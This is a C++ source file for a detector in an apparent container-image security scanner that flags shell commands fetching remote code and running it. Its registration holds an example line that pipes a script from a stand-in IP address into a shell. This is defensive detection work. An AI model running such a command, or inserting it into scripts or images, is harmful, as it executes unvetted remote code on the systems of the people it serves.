// Code that is fetched and run: piped to an interpreter (D01), saved and run (D02), saved where nobody looks (D03).
//
// At start this makes the image run code that it does not contain, so nobody can say what it does: that is a verdict
// of its own. When the image was built the result lies in a layer and is looked at there, so the command is only a
// remark.
#include <algorithm>
#include <array>

#include "detect/assess.hpp"
#include "detect/shell/shell_support.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::array<RuleRow, 3> k_rows{{
    {"D01", EvidenceClass::strong, model::Severity::high, 85, "Fetched code piped to an interpreter",
     "T1105,T1059.004", "Put the code into the image at build time, pinned by digest, and start that."},
    {"D02", EvidenceClass::strong, model::Severity::high, 85, "Fetched file that is run", "T1105,T1059.004",
     "Put the program into the image at build time, pinned by digest."},
    {"D03", EvidenceClass::supporting, model::Severity::medium, 70, "Fetch into a temporary or hidden place", "T1105",
     "Find out what the file is for, and put it into the image at build time."},
}};

constexpr ClassByReach k_runs{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::context};
constexpr ClassByReach k_saves{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::context};

EvidenceClass weaker(EvidenceClass cls) {
  return cls == EvidenceClass::context ? cls : static_cast<EvidenceClass>(static_cast<std::uint8_t>(cls) + 1);
}

std::string source_of(const ShellFlow& flow) {
  if (!flow.urls.empty()) return flow.urls.front();
  if (!flow.host.empty()) return flow.host + (flow.port.empty() ? "" : ":" + flow.port);
  return "a computed address";
}

// "docker run IMAGE": the program is another image's. The use of the engine is what H01 speaks of.
bool runs_container(const ShellFlow& flow) {
  return flow.kind == FlowKind::fetch_to_file_run && flow.interpreter.empty() && !flow.urls.empty() &&
         flow.urls.front() == flow.path;
}

// What the container serves to itself is in the image.
bool only_from_itself(const ShellFlow& flow) {
  if (flow.urls.empty()) return is_loopback(flow.host);
  return std::all_of(flow.urls.begin(), flow.urls.end(),
                     [](const std::string& url) { return is_loopback(host_of(url)); });
}

std::string describe(const ShellFlow& flow) {
  const std::string from = flow.tool + " " + source_of(flow);
  const std::string with = flow.interpreter.empty() ? "" : " with " + flow.interpreter;
  switch (flow.kind) {
    case FlowKind::fetch_to_interpreter: return from + " | " + flow.interpreter;
    case FlowKind::fetch_to_file_run:
      if (runs_container(flow)) return flow.tool + " runs " + flow.path + ", which is not part of this image";
      if (!flow.detail.empty())
        return from + " to " + flow.path + ", loaded from there by " + flow.detail +
               (flow.verified ? ", checked before" : "");
      return from + " to " + flow.path + ", then run" + with + (flow.verified ? ", checked before" : "");
    default: return from + " to " + flow.path;
  }
}

class FetchToShell final : public Detector {
 public:
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    for (const ShellFlow& flow : unit.facts.flows) {
      const RuleRow* row = row_of(flow);
      if (row == nullptr) continue;
      const bool runs = flow.kind != FlowKind::fetch_to_file;
      EvidenceClass cls = class_for(unit, runs ? k_runs : k_saves);
      if (flow.verified || only_from_itself(flow)) cls = weaker(cls);
      Evidence evidence = shell_evidence(*row, unit, flow.line, describe(flow), cls);
      if (runs) evidence.values.emplace_back(k_payload_key, k_payload_absent);
      if (runs_container(flow)) evidence.values.emplace_back(k_family_key, "H");
      if (!flow.urls.empty()) evidence.values.emplace_back("url", flow.urls.front());
      if (!flow.path.empty()) evidence.values.emplace_back("target", flow.path);
      out.add(std::move(evidence));
    }
  }

 private:
  static const RuleRow* row_of(const ShellFlow& flow) {
    switch (flow.kind) {
      case FlowKind::fetch_to_interpreter: return &k_rows[0];
      case FlowKind::fetch_to_file_run: return &k_rows[1];
      case FlowKind::fetch_to_file: return flow.detail == "temp" || flow.detail == "hidden" ? &k_rows[2] : nullptr;
      default: return nullptr;
    }
  }
};

const util::Registered<FetchToShell> registered{{
    .id = "fetch-to-shell",
    .version = 3,
    .summary = "code fetched and run by scripts and start commands",
    .example = "curl -s http://192.0.2.1/x.sh | sh",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
